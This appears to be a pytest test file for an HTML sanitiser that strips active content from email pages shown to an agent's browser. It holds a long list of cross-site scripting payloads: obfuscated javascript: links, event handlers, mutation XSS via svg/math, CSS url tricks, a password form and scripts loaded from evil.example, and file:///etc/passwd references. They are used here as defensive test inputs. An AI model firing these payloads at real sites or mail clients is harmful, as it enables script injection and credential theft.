"""What an agent's browser gets to see of a stranger's page: the words and their looks, nothing that acts or calls home."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from channels.email.reading.safe_html import CUT, MAX_HTML, MAX_RESULT, TAGS, safe_html
from channels.email.reading.safe_html_tidy import MAX_DEPTH

OWN = {"logo@x.example": "data:image/png;base64,AAAA"}
ATTRIBUTES = {
    "align", "bgcolor", "dir", "lang", "style", "title", "valign", "width", "height", "href", "rel", "target", "src",
    "alt", "color", "face", "size", "border", "cellpadding", "cellspacing", "colspan", "rowspan", "nowrap", "scope",
    "span", "start", "type", "value",
}  # fmt: skip


class Seen(HTMLParser):
    """As a browser would take it apart."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration came through: {decl}")


def assert_harmless(page: str) -> Seen:
    seen = Seen(page)
    for tag, attributes in seen.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
            assert attributes.get("href", "http:").startswith(("http:", "https:", "mailto:", "HTTP", "Http", "hTTp"))
        else:
            assert "href" not in attributes
        assert attributes.get("src", "data:image/").startswith(
            ("data:image/png", "data:image/gif", "data:image/jp", "data:image/")
        )
        style = attributes.get("style", "").lower()
        for word in ("url", "position", "expression", "behavior", "@", "\\", "/*", "fixed", "z-index", "opacity", "transform:"):
            assert word not in style
    return seen


ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed script": "<script>alert(1)//",
    "slash for blank": "<img/src=x/onerror=alert(1)>",
    "handler": "<p onclick=alert(1) onmouseover='alert(2)'>x</p>",
    "handler after a newline": "<img src=x\nonerror\n=\nalert(1)>",
    "handler in a broken quote": "<img alt=\"`><script>alert(1)</script>\" src=x onerror='alert(1)'>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg use": "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "svg style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "svg foreign object": "<svg><foreignObject><iframe srcdoc='<script>1</script>'></foreignObject></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "math link": "<math href='javascript:alert(1)'>x</math>",
    "math annotation": "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "title": "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "style element": "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example)}</style>",
    "style in a comment": "<style><!--</style><script>alert(1)</script>-->",
    "style that escapes": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "style with a picture": "<div style='background:url(http://evil.example/p.gif)'>x</div>",
    "style with escapes": "<div style='background:\\75\\72\\6c(http://evil.example)'>x</div>",
    "style with comments": "<div style='background:u/**/rl(http://evil.example)'>x</div>",
    "style with entities": "<div style='background:&#117;rl(&#104;ttp://evil.example)'>x</div>",
    "style expression": "<div style='width:expression(alert(1))'>x</div>",
    "style binding": "<div style='-moz-binding:url(x);behavior:url(x)'>x</div>",
    "style import": "<p style='@import url(x)'>x</p>",
    "style image set": "<p style='background:image-set(\"http://evil.example/1.png\" 1x)'>x</p>",
    "base": "<base href='https://evil.example/'><a href='x'>x</a>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "link": "<link rel=stylesheet href=https://evil.example/x.css>",
    "javascript": "<a href='javascript:alert(1)'>x</a>",
    "javascript with tabs": "<a href='java\tscript:alert(1)'>x</a><a href='jav&#x09;ascript:alert(1)'>x</a>",
    "javascript with newlines": "<a href='java\nscript:alert(1)'>x</a><a href='java&NewLine;script:alert(1)'>x</a>",
    "javascript with entities": "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a><a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "javascript behind controls": "<a href='\x01javascript:alert(1)'>x</a><a href=' &#14; javascript:alert(1)'>x</a>",
    "javascript behind marks": "<a href='\u200bjavascript:alert(1)'>x</a><a href='\ufeffjavascript:alert(1)'>x</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "cid link": "<a href='cid:logo@x.example'>x</a>",
    "file link": "<a href='file:///etc/passwd'>x</a><a href='//evil.example'>x</a><a href='/api/v1/me'>x</a><a href='#x'>x</a>",
    "link without a host": "<a href='http:alert(1)'>x</a><a href='https:///x'>x</a>",
    "form": "<form action=https://evil.example><input name=password type=password><button formaction=x>Log in</button></form>",
    "fields": "<select><option>x</select><keygen><isindex><datalist><output>x</output><meter><progress>",
    "iframe": "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=x.swf><param name=x value=y><embed src=x></object><applet code=x>",
    "frames": "<frameset><frame src='javascript:alert(1)'></frameset>",
    "media": "<video src=x poster=y onerror=alert(1)><source src=z><track src=t></video><audio src=x autoplay>",
    "template": "<template><script>alert(1)</script></template><template><img src=x onerror=alert(1)>",
    "custom element": "<x-evil onclick=alert(1)>x</x-evil><image src=x onerror=alert(1)>",
    "srcset": "<img srcset='http://evil.example/1.png 1x' src=''><picture><source srcset=http://evil.example/2.png></picture>",
    "picture attributes": "<img lowsrc=http://evil.example dynsrc=http://evil.example longdesc=http://evil.example usemap=#m>",
    "background": "<table background='http://evil.example/p.gif'><tr><td background=//evil.example/p.gif>x</table>",
    "clobbering": "<a id=cookie name=body class=x href=https://ok.example>x</a><form id=x name=y></form>",
    "svg as a picture": "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "data that is no picture": "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "cid of nobody": "<img src='cid:other@x.example'><img src='CID:../../etc'>",
    "alt that breaks out": "<img src=http://h.example/x alt='\"><script>alert(1)</script>'>",
    "alt with a tag": "<img src='cid:logo@x.example' alt='<img src=x onerror=alert(1)>' title='\" onerror=\"alert(1)'>",
    "host that breaks out": "<img src='http://\"><script>alert(1)</script>/x.png'>",
    "comment": "<!-- <script>alert(1)</script> --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "comment that never ends": "<!-- x <p>",
    "comment tricks": "<!--><script>alert(1)</script>--><!--!><img src=x onerror=alert(1)>--><!-- --!><script>1</script>",
    "processing": "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "declaration": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "nul bytes": "<scr\x00ipt>alert(1)</scr\x00ipt><a href='java\x00script:alert(1)'>x</a>",
    "broken end": "<p>x</p </script><script>alert(1)</script",
    "nested misnesting": "<b><p><i></b><table><td><form><table></form><script>alert(1)</script>",
    "mutation by table": "<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption></table>",
    "mutation by select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "mutation by paragraph": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "entities that decode twice": "&amp;lt;script&amp;gt;alert(1)&lt;/script&gt;",
    "long attribute": "<p style='" + "a:b;" * 5_000 + "'>x",
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_nothing_of_an_attack_comes_through(attack: str) -> None:
    seen = assert_harmless(safe_html(f"<p>before</p>{attack}", OWN))
    assert "before" in seen.text
    assert_harmless(safe_html(attack, {}))


BITS = ("<", ">", '"', "'", "=", "</", "<!--", "-->", "<table>", "<b>", "</p>")


@given(pieces=st.lists(st.one_of(st.sampled_from([*ATTACKS.values(), *BITS]), st.text(max_size=8)), max_size=8))
def test_nothing_of_attacks_in_any_order_comes_through(pieces: list[str]) -> None:
    page = safe_html("".join(pieces), OWN)
    assert_harmless(page)
    page.encode()


def test_an_ordinary_page_keeps_its_looks() -> None:
    page = safe_html(
        '<html><head><title>t</title></head><body><h1 align="center">Hi</h1><p style="color: #333; font-size: 12px">Dear '
        "<b>desk</b>,<br>it is <i>broken</i>.</p><ul><li>one<li>two</ul>"
        "<table border=1><tr><td colspan=2>cell</table></body></html>",
        {},
    )
    assert page == (
        '<h1 align="center">Hi</h1><p style="color: #333; font-size: 12px">Dear <b>desk</b>,<br>it is <i>broken</i>.</p>'
        '<ul><li>one</li><li>two</li></ul><table border="1"><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
    )


def test_text_that_looks_like_tags_stays_text() -> None:
    assert safe_html("1 < 2 && 3 > 2, i <3 u", {}) == "1 &lt; 2 &amp;&amp; 3 &gt; 2, i &lt;3 u"


def test_the_mails_own_pictures_are_shown() -> None:
    page = safe_html('<img src="cid:logo@x.example" alt="Our logo" width="90">', OWN)
    assert page == '<img alt="Our logo" width="90" src="data:image/png;base64,AAAA">'
    assert 'src="data:image/gif;base64,R0lGOD"' in safe_html("<img src='data:image/gif;base64,R0lGOD'>", {})


REMOTE = {
    "with words": ('<img src="https://ads.example/a.png" alt="Sale!">', "[Sale!]"),
    "without": ('<img src="https://ads.example/a.png">', "[picture from ads.example]"),
    "of nowhere": ('<img src="a.png">', "[picture from elsewhere]"),
    "a pixel": ('<img src="https://ads.example/a.gif" width="1" height="1">', ""),
    "a pixel by style": ('<img src="https://ads.example/a.gif" style="width:1px;height:1px">', ""),
    "a line": ('<img src="https://ads.example/a.gif" height=0>', ""),
    "none": ("<img>", ""),
}


@pytest.mark.parametrize(("html", "said"), REMOTE.values(), ids=REMOTE)
def test_a_picture_from_elsewhere_is_not_fetched(html: str, said: str) -> None:
    page = safe_html(f"x{html}y", {})
    assert Seen(page).text == f"x{said}y"
    assert "<img" not in page


@pytest.mark.parametrize("link", ["https://x.example/a?b=1&c=2#d", "http://x.example", "mailto:ada@x.example?subject=x"])
def test_a_link_stays_and_says_nothing_about_us(link: str) -> None:
    tags = Seen(safe_html(f'<a href="{link.replace("&", "&amp;")}">x</a>', {})).tags
    assert tags == [("a", {"href": link, "target": "_blank", "rel": "noopener noreferrer nofollow"})]


def test_a_long_page_is_cut_and_says_so() -> None:
    page = safe_html("<p>word</p>" * 100_000, {})
    assert page.endswith(CUT)
    assert len(page) < MAX_RESULT
    assert not safe_html("<p>word</p>", {}).endswith(CUT)


def filled(piece: str) -> str:
    return (piece * (MAX_HTML // len(piece) + 1))[:MAX_HTML]


FLOODS = [
    "<div>", "<ul><li>", "<b><p>", "<b></p>", "<div></p>", "<table><tr><td>", "<table>x", "<a href=x>", "<", "&", "&amp;",
    "<!--", "<svg>", "<math><mi>", "<template>", "<script>", "<style></style>", "<font color=1><font color=2><p>",
    "</p>", "<p style='color:red'>", "<img src=http://h.example/x>", "<a ='", '"', "</", "<li>", "<dd>", "<html a=1>",
]  # fmt: skip


@pytest.mark.parametrize("piece", FLOODS)
def test_a_flood_of_tags_is_shown_like_any_other_page(piece: str) -> None:
    page = safe_html("hello " + filled(piece), {})
    assert "hello" in page
    assert page.count("<div") <= max(MAX_DEPTH, page.count("</div"))


def test_a_flood_of_attributes_is_shown_like_any_other_page() -> None:
    flood = " ".join(f"a{number}=b" for number in range(20_000))
    assert safe_html(f"<p {flood}>hello", {}) == "<p>hello</p>"
    assert safe_html("".join(f"<body a{number}=b>" for number in range(15_000)) + "hello", {}) == "hello"
